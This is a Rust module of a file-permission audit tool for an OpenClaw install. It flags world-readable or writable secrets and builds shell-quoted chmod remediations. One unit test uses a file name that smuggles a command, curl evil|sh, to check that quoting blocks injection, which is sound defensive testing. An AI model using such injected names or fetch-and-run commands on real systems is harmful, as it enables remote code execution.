//! Modes, owners and kinds of the files of an install.
//!
//! OpenClaw's ids are about single files, by their mode alone, and keep its severities. Ours cover every other file of
//! secrets, one finding a kind however many files, and know that what stands in a closed folder cannot be reached: then
//! the severity is one step lower.

use super::Check;
use crate::finding::{Finding, Fix, Place, Severity};
use crate::model::Model;
use crate::model::agents::normalized;
use crate::snapshot::tree::{Entry, Kind, Role};

mod code;
mod config;
mod keys;
mod kinds;
mod logs;
mod owners;
mod secret;
mod state;
mod synced;

pub(super) const CHECKS: &[Check] = &[
    state::CHECK,
    config::CHECK,
    keys::CHECK,
    logs::CHECK,
    synced::CHECK,
    secret::CHECK,
    code::CHECK,
    owners::CHECK,
    kinds::CHECK,
];

/// The entries with a role.
fn entries<'m>(model: &'m Model<'_>, role: &'m Role) -> impl Iterator<Item = &'m Entry> {
    model.snapshot.tree.entries.iter().filter(move |entry| entry.role == *role)
}

/// Whether a user is the operator or root, who may do everything anyway.
const fn is_ours(model: &Model<'_>, uid: u32) -> bool {
    uid == 0 || uid == model.snapshot.tree.owner || uid == model.snapshot.install.uid
}

/// Whether others may write by these bits.
const fn writable(bits: u32) -> bool {
    bits & 0o022 != 0
}

/// Whether others may read by these bits.
const fn readable(bits: u32) -> bool {
    bits & 0o044 != 0
}

/// Whether `--fix` may change its mode: never through a link, of a pipe or device in the place of a file, by a path that
/// is not the name, another user's file, or for root a file that has a second name elsewhere.
const fn can_mend(model: &Model<'_>, entry: &Entry) -> bool {
    let user = model.snapshot.install.uid;
    let second_name = matches!(entry.kind, Kind::File) && entry.links > 1 && user == 0;
    let own = entry.uid == user || (user == 0 && is_ours(model, entry.uid));
    let is_file = match entry.kind {
        Kind::File | Kind::Folder => true,
        // The socket on which approvals are given is one that belongs there.
        Kind::Special => matches!(entry.role, Role::ExecApprovals),
        Kind::Link => false,
    };
    is_file && !entry.escaped && own && !second_name
}

/// The bits of a file or folder that only its owner may use: what the owner could do stays.
const fn closed(entry: &Entry) -> u32 {
    if matches!(entry.kind, Kind::Folder) { 0o700 } else { entry.mode & 0o700 }
}

/// A finding about files: with their places, a fix for those that can be mended, and what to do about the others.
fn about<'e>(model: &Model<'_>, finding: Finding, files: &[&'e Entry], bits: impl Fn(&'e Entry) -> u32) -> Finding {
    let mendable: Vec<&Entry> = files.iter().copied().filter(|entry| can_mend(model, entry)).collect();
    let mut finding = finding;
    finding.places.extend(files.iter().take(PLACES).map(|entry| Place::File(entry.path.clone())));
    let Some(first) = files.first() else { return finding };
    let command = format!("chmod {:o} {}", bits(first), quoted(&first.path));
    let remedy = match files.len() {
        1 => command,
        _ => format!("take from group and others what they may do, beginning with: {command}"),
    };
    let rest = files.len().saturating_sub(mendable.len());
    let by_hand =
        format!(" (--fix leaves {rest} to you: a link, no file, another user's, a second name, or an unspeakable one)");
    finding = finding.remedy(if rest == 0 { remedy } else { remedy + &by_hand });
    if mendable.is_empty() {
        return finding;
    }
    let what = match mendable.as_slice() {
        [only] => format!("close {} to everybody but its owner", only.path),
        several => format!("close {} files and folders to everybody but their owner", several.len()),
    };
    let fix = mendable.iter().fold(Fix::safe(what), |fix, entry| fix.mode(entry.path.clone(), bits(entry)));
    finding.fix(fix)
}

/// A path as one word of a shell: remediations are pasted, and a name can hold a command.
fn quoted(path: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+@:".contains(c);
    if path.chars().all(plain) { path.to_owned() } else { format!("'{}'", path.replace('\'', r"'\''")) }
}

/// Some paths with their modes, one a line, and how many more there are.
fn listed(files: &[&Entry]) -> String {
    let mut lines: Vec<String> =
        files.iter().take(LINES).map(|entry| format!("{} (mode {:o})", entry.path, entry.mode)).collect();
    let more = files.len().saturating_sub(LINES);
    if more > 0 {
        lines.push(format!("and {more} more"));
    }
    lines.join("\n")
}

/// The severity where nobody can reach any of the files at present: one step lower, and the reason for the detail.
fn reached(severity: Severity, files: &[&Entry]) -> (Severity, String) {
    let shut = files.iter().all(|entry| entry.unwanted() & !entry.closed == 0);
    let by = files.iter().find_map(|entry| entry.closed_by.as_deref());
    match by.filter(|_| shut) {
        None => (severity, String::new()),
        Some(folder) => {
            let lower = if severity == Severity::Critical { Severity::Warn } else { Severity::Info };
            (lower, format!("\nOut of reach for now: {folder} is closed, and only its mode keeps others out."))
        }
    }
}

/// The ids of the agents that OpenClaw looks at: `main` and those of the config, as their folders are named.
fn agents(model: &Model<'_>) -> Vec<String> {
    let config = model.config();
    let listed = config.get("agents.list").and_then(serde_json::Value::as_array).into_iter().flatten();
    let listed = listed.filter_map(|agent| agent.get("id")?.as_str());
    let keyed = config.fields("agents.entries").map(|(id, _)| id.as_str());
    std::iter::once("main").chain(keyed).chain(listed).map(normalized).collect()
}

/// How many paths a detail lists.
const LINES: usize = 12;
/// How many places a finding has.
const PLACES: usize = 50;

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::snapshot::{Snapshot, Tree};

    /// An entry of the operator of [`crate::testing::snapshot`], below his state directory.
    pub(super) fn entry(path: &str, role: Role, mode: u32) -> Entry {
        let kind = if path.is_empty() || path.ends_with('/') { Kind::Folder } else { Kind::File };
        let path = format!("/home/op/.openclaw/{path}").trim_end_matches('/').to_owned();
        Entry { path, role, kind, mode, uid: 1000, gid: 1000, links: 1, ..Entry::default() }
    }

    /// An install with these entries.
    pub(super) fn install(entries: Vec<Entry>) -> Snapshot {
        let mut snapshot = crate::testing::snapshot(json!({}));
        let real = snapshot.install.state.clone();
        snapshot.tree = Tree { entries, owner: 1000, real, ..Tree::default() };
        snapshot
    }

    /// What the checks of this family say of these entries.
    pub(super) fn said(entries: Vec<Entry>) -> Vec<String> {
        crate::testing::said(&install(entries), "fs.")
    }

    #[test]
    fn a_closed_install_is_silent() {
        let entries = vec![
            entry("", Role::StateDir, 0o700),
            entry("openclaw.json", Role::Config, 0o600),
            entry("conf.d/a.json5", Role::Include, 0o600),
            entry("credentials/", Role::CredentialsDir, 0o700),
            entry("workspace/AGENTS.md", Role::Workspace, 0o644),
            entry("exec-approvals.sock", Role::ExecApprovals, 0o600),
        ];
        assert!(said(entries).is_empty());
    }

    #[test]
    fn a_name_cannot_put_a_command_into_a_remediation() {
        let evil = entry("credentials/a';curl evil|sh;'.json", Role::Credential, 0o666);
        let findings = crate::testing::findings(&install(vec![evil]), "fs.");
        let remedy = findings[0].remediation.as_deref();
        let expected = r"chmod 600 '/home/op/.openclaw/credentials/a'\'';curl evil|sh;'\''.json'";
        assert_eq!(remedy, Some(expected));
    }

    #[test]
    fn links_foreign_files_and_unspeakable_names_are_never_mended() {
        let open = || entry("credentials/x.json", Role::Credential, 0o666);
        let cases = [
            Entry { kind: Kind::Link, target: Some("/home/op/.openclaw/y".into()), ..open() },
            Entry { uid: 1001, ..open() },
            Entry { escaped: true, ..open() },
        ];
        for case in cases {
            let findings = crate::testing::findings(&install(vec![case.clone()]), "fs.");
            assert!(findings.iter().all(|finding| finding.fix.is_none()), "{case:?}: {findings:?}");
        }
        let findings = crate::testing::findings(&install(vec![open()]), "fs.");
        assert!(findings.iter().all(|finding| finding.fix.is_some()), "the honest one");
    }
}
